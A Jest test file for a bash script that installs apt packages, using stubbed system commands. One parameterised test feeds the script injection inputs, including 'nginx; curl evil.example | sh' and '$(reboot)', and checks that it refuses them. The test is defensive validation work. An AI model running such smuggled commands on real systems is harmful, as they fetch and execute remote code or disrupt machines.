// tools/provision.sh, run for real with bash: stubs stand in for dpkg-query, apt-get, apt-cache,
// sudo and id, so nothing is installed and the machine's own packages do not matter.
import { spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { PROJECT_ROOT } from "../../tools/engine/stackConfig";
import { stubCommands } from "../workflows/workflows";

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "healthflow-provision-"));
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

interface Machine {
  /** Packages dpkg reports installed (name → version). */
  installed?: Record<string, string>;
  /** "root", a user with passwordless "sudo", or a plain "user". */
  who?: "root" | "sudo" | "user";
  /** Packages the apt sources lack. */
  unavailable?: string[];
  /** Extra stubs (name → bash body). */
  more?: Record<string, string>;
}

function machine({ installed = {}, who = "sudo", unavailable = [], more = {} }: Machine) {
  const known = Object.entries(installed)
    .map(([name, version]) => `${name}) echo "install ok installed ${version}";;`)
    .join(" ");
  return stubCommands(tmp, {
    "dpkg-query": `case "\${@: -1}" in ${known} *) exit 1;; esac`,
    "apt-get": "exit 0",
    "apt-cache": `case "$2" in ${unavailable.map((p) => `${p}) exit 100;;`).join(" ")} *) exit 0;; esac`,
    sudo: who === "sudo" ? '[ "$1" = -n ] && [ "$2" = true ] && exit 0; "$@"' : "exit 1",
    id: `echo ${who === "root" ? 0 : 1000}`,
    ...more,
  });
}

function log(stubs: string, name: string): string[] {
  const file = path.join(stubs, `${name}.log`);
  return fs.existsSync(file) ? fs.readFileSync(file, "utf8").trim().split("\n") : [];
}

function provision(list: string, stubs: string, env: Record<string, string> = {}) {
  const file = path.join(fs.mkdtempSync(path.join(tmp, "list-")), "apt-packages.txt");
  fs.writeFileSync(file, list);
  const result = spawnSync("bash", [path.join(PROJECT_ROOT, "tools/provision.sh"), file], {
    cwd: path.dirname(file),
    env: { PATH: `${stubs}:/usr/bin:/bin`, HOME: tmp, ...env },
    encoding: "utf8",
  });
  return { status: result.status, out: result.stdout + result.stderr };
}

describe("tools/provision.sh", () => {
  test("does nothing when every listed package is installed (pinned versions included)", () => {
    const stubs = machine({ installed: { nginx: "1.22.1-9", "postgresql-16": "16.10-1" } });
    const result = provision("nginx\npostgresql-16=16.10-1\n", stubs);
    expect(result).toMatchObject({ status: 0, out: "" });
    expect(log(stubs, "apt-get")).toEqual([]);
  });

  test("installs only what is missing, in one apt-get call, through passwordless sudo", () => {
    const stubs = machine({ installed: { nginx: "1.22.1-9" } });
    const result = provision("# tools\nnginx\n\n  shellcheck   # scripts/\nprometheus", stubs);
    expect(result.status).toBe(0);
    expect(log(stubs, "sudo")).toContain(
      "apt-get install -y -qq --no-install-recommends shellcheck prometheus",
    );
    expect(log(stubs, "apt-get")).toEqual([
      "update -qq",
      "install -y -qq --no-install-recommends shellcheck prometheus",
    ]);
  });

  test("as root it needs no sudo", () => {
    const stubs = machine({ who: "root" });
    expect(provision("nginx\n", stubs).status).toBe(0);
    expect(log(stubs, "sudo")).toEqual([]);
    expect(log(stubs, "apt-get")).toEqual(["update -qq", "install -y -qq --no-install-recommends nginx"]);
  });

  test("a package installed at another version than the one pinned counts as missing", () => {
    const stubs = machine({ installed: { "postgresql-16": "16.9-1" } });
    expect(provision("postgresql-16=16.10-1\n", stubs).status).toBe(0);
    expect(log(stubs, "apt-get")[1]).toBe("install -y -qq --no-install-recommends postgresql-16=16.10-1");
  });

  test("without root or sudo it installs nothing and names the command to run", () => {
    const stubs = machine({ who: "user", installed: { nginx: "1.22.1-9" } });
    const result = provision("nginx\nshellcheck\nprometheus\n", stubs);
    expect(result.status).toBe(1);
    expect(result.out).toContain(
      "Run: sudo apt-get update && sudo apt-get install -y --no-install-recommends shellcheck prometheus",
    );
    expect(log(stubs, "apt-get")).toEqual([]);
  });

  test("skips, with a notice, a package the machine's apt sources lack", () => {
    const stubs = machine({ unavailable: ["awscli"] });
    const result = provision("nginx\nawscli\n", stubs, { GITHUB_ACTIONS: "true" });
    expect(result.status).toBe(0);
    expect(result.out).toContain(
      "::notice file=apt-packages.txt::awscli is not in this machine's apt sources",
    );
    expect(log(stubs, "apt-get")[1]).toBe("install -y -qq --no-install-recommends nginx");
  });

  test("an empty list installs nothing", () => {
    const stubs = machine({});
    expect(provision("# nothing yet\n\n", stubs)).toMatchObject({ status: 0 });
    expect(log(stubs, "apt-get")).toEqual([]);
  });

  test.each([["nginx; curl evil.example | sh"], ["$(reboot)"], ["-o=APT::Get::foo"], ["Nginx"]])(
    "refuses %j before calling apt-get",
    (line) => {
      const stubs = machine({});
      const result = provision(`nginx\n${line}\n`, stubs, { GITHUB_ACTIONS: "true" });
      expect(result.status).toBe(1);
      expect(result.out).toContain("::error file=apt-packages.txt::Not a Debian package name");
      expect(log(stubs, "apt-get")).toEqual([]);
    },
  );

  test("the repository's list is valid and names the tools the tests run", () => {
    const stubs = machine({ who: "root" });
    const list = fs.readFileSync(path.join(PROJECT_ROOT, ".github/apt-packages.txt"), "utf8");
    expect(provision(list, stubs).status).toBe(0);
    const installed = log(stubs, "apt-get")[1].split(" ");
    expect(installed).toEqual(
      expect.arrayContaining(["nginx", "postgresql", "prometheus", "prometheus-alertmanager", "shellcheck"]),
    );
  });
});

describe("npm run check (tools/check.sh)", () => {
  test("stops before any type-check, lint or test when the tools cannot be installed", () => {
    // A machine without the tools and without root: npm (which would run the checks) is never called.
    const stubs = machine({ who: "user", more: { npm: "exit 0" } });
    const result = spawnSync("bash", [path.join(PROJECT_ROOT, "tools/check.sh")], {
      env: { PATH: `${stubs}:${path.dirname(process.execPath)}:/usr/bin:/bin`, HOME: tmp },
      encoding: "utf8",
    });
    expect(result.status).toBe(1);
    expect(result.stdout + result.stderr).toMatch(/Run: sudo apt-get update && sudo apt-get install/);
    expect(log(stubs, "npm")).toEqual([]);
  });

  /** A machine with every listed tool installed, and an npm whose `run -s <script>` fails for `failing`. */
  function checkWith(failing: string[]) {
    const listed = fs
      .readFileSync(path.join(PROJECT_ROOT, ".github/apt-packages.txt"), "utf8")
      .split("\n")
      .map((line) => line.replace(/#.*/, "").trim())
      .filter(Boolean)
      .map((entry) => entry.split("=") as [string, string?]);
    const installed = Object.fromEntries(listed.map(([name, version]) => [name, version ?? "1.0"]));
    const npm = failing
      .map((script) => `"run -s ${script}") echo "${script} found a problem"; exit 2;;`)
      .join(" ");
    const stubs = machine({ installed, more: { npm: `case "$*" in ${npm} *) exit 0;; esac` } });
    const result = spawnSync("bash", [path.join(PROJECT_ROOT, "tools/check.sh")], {
      env: { PATH: `${stubs}:${path.dirname(process.execPath)}:/usr/bin:/bin`, HOME: tmp },
      encoding: "utf8",
    });
    return { status: result.status, out: result.stdout + result.stderr, npm: log(stubs, "npm") };
  }

  test("runs the type-check and lint (one process, tools/static.ts) and the tests, and passes when both pass", () => {
    const result = checkWith([]);
    expect(result.status).toBe(0);
    expect([...result.npm].sort()).toEqual(["run -s static", "test"]);
    expect(result.out).toContain("check: type-check and lint passed");
  });

  test("fails when the type-check or lint fails although the tests pass, and prints what it found", () => {
    const result = checkWith(["static"]);
    expect(result.status).toBe(1);
    expect(result.out).toContain("static found a problem");
    expect(result.out).toContain("check: type-check or lint failed");
  });
});

describe("the set-up scripts themselves", () => {
  test("shellcheck accepts tools/check.sh, tools/provision.sh, tools/node.sh and .ci/run", () => {
    const files = ["tools/check.sh", "tools/provision.sh", "tools/node.sh", ".ci/run"].map((f) =>
      path.join(PROJECT_ROOT, f),
    );
    // -x follows .ci/run's `source tools/node.sh` (paths from the project root).
    const result = spawnSync("shellcheck", ["-x", "-s", "bash", ...files], {
      cwd: PROJECT_ROOT,
      encoding: "utf8",
    });
    expect(result.error).toBeUndefined();
    expect(result.stdout).toBe("");
    expect(result.status).toBe(0);
  });
});
